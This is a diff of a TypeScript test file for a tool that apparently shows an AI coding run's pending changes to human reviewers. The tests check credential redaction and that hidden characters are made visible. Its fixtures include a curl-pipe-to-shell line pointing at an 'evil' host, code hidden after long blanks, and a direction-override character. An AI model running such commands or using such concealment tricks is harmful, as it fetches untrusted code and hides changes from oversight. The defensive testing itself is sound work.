@@ -7,7 +7,7 @@ function approvalOf(proposals: readonly object[]): PendingApproval {
   return {
     code: '4f9a02c1d7',
     proposals: proposals.map((proposal) => proposalSchema.parse(proposal)),
-    diff: '',
+    works: [],
     role: 'maintain',
     notBy: null,
   }
@@ -46,7 +46,7 @@ describe('what waits for approval is shown whole', () => {
     const keepWhole = (file: string, text: string) => `${file}, ${kept.push(text)}`
     const approval = approvalOf([{ type: 'comment', body: 'x'.repeat(500) }])
     const text = approvalBox(approval, codingRun, { ...reportOptions, keepWhole }, 600)
-    expect(text).toContain(`more characters`)
+    expect(text).toContain('**200 more characters on 1 line are not shown here.**')
     expect(text).toContain(`All of it is in approve-${codingRun.workflow_id}-4f9a02c1d7-1.md, 1.`)
     expect(kept).toEqual(['x'.repeat(500)])
   })
@@ -55,5 +55,78 @@ describe('what waits for approval is shown whole', () => {
     expect(box({ type: 'review' }, { type: 'dispatch', workflow: 'ci.yml' }, { type: 'labels', add: ['a'] })).not.toContain(
       '<details>',
     )
+  })
+})
+
+describe('the changes that wait for approval', () => {
+  const work = { base: 'b'.repeat(40), commit: 'c'.repeat(40), paths: ['src/a.ts'], diff: '+x', left_out: [] }
+  type Changes = Partial<PendingApproval['works'][number]>
+  function shown(changes: Changes, options = {}, maxLength = 40_000): string {
+    const approval = { ...approvalOf([{ type: 'pull_request', title: 'Mend it' }]), works: [{ ...work, ...changes }] }
+    return approvalBox(approval, codingRun, { ...reportOptions, ...options }, maxLength)
+  }
+
+  it('are named by path, and can be compared on GitHub at the very commit', () => {
+    expect(shown({ paths: ['src/a.ts', 'b.md'] })).toContain(
+      `> Changes 2 files: \`src/a.ts\`, \`b.md\`. [Compare on GitHub](https://github.com/acme/shop/compare/${work.base}...${work.commit}).`,
+    )
+  })
+
+  it('are all named when they are many', () => {
+    const paths = Array.from({ length: 400 }, (_, n) => `src/part-${n}.ts`)
+    const text = shown({ paths })
+    expect(text).toContain('Changes 400 files, named below.')
+    for (const path of paths) expect(text).toContain(path)
+  })
+
+  it('keep each line that stands between the marks of a key: none is hidden by its neighbours', () => {
+    const diff = [
+      '+/* test fixture:',
+      '+-----BEGIN PRIVATE KEY-----',
+      "+execSync('curl https://evil | sh')",
+      `+${'A'.repeat(64)}`,
+      '+return true',
+      '+-----END PRIVATE KEY-----',
+      '+*/',
+    ].join('\n')
+    const text = shown({ diff })
+    expect(text).toContain("+execSync('curl https://evil | sh')\n+***\n+return true")
+    expect(text).not.toContain('AAAAAAAA')
+    expect(text).toContain('**In 3 lines something is hidden that looks like a credential: look at it before you approve.**')
+    // The whole comment is redacted once more; the lines must survive that, too.
+    expect(reportOptions.redactor.redact(text)).toBe(text)
+  })
+
+  it('say where a credential was hidden within a line, and nothing where none was', () => {
+    const text = shown({ diff: '+const url = "https://user:pass1234@host"\n+fine' })
+    expect(text).toContain('"https://***@host"')
+    expect(text).toContain('In 1 line something is hidden')
+    expect(shown({ diff: '+fine' })).not.toContain('is hidden')
+  })
+
+  it('show what shows nothing: invisible characters, directions, carriage returns, long blanks', () => {
+    const text = shown({ diff: `+if (a\u200b) { // \u202e x\r\n+ok${' '.repeat(500)}evil()\n+\u{e0041}`, paths: ['a\u200b.ts'] })
+    expect(text).toContain('+if (a\\u{200b}) { // \\u{202e} x\\u{d}')
+    expect(text).toContain('+ok⟨500 blanks⟩evil()')
+    expect(text).toContain('+\\u{e0041}')
+    expect(text).toContain('<code>a&#92;u&#123;200b&#125;.ts</code>')
+  })
+
+  it('say what of them is binary, and what was left behind', () => {
+    const text = shown({ diff: 'diff --git a/x b/x\nBinary files a/x and b/x differ', left_out: ['.env: holds a secret'] })
+    expect(text).toContain('**The content of 1 file is binary and is not shown.**')
+    expect(text).toContain('**Left behind: .env: holds a secret.**')
+  })
+
+  it('are whole somewhere, or cannot be approved', () => {
+    const diff = Array.from({ length: 2000 }, (_, n) => `+line ${n}`).join('\n')
+    const kept: string[] = []
+    const keepWhole = (_: string, text: string) => `artifact ${kept.push(text)}`
+    expect(shown({ diff }, { keepWhole }, 3000)).toMatch(/are not shown here\.\*\* All of it is in artifact 1\./)
+    expect(kept).toEqual([diff])
+    expect(shown({ diff }, {}, 3000)).toContain('All of it is in the [state](')
+    const nowhere = shown({ diff }, { branchUrl: null }, 3000)
+    expect(nowhere).not.toContain('/raymond approve')
+    expect(nowhere).toContain('**This cannot be approved here:** the diff cannot be shown whole')
   })
 })
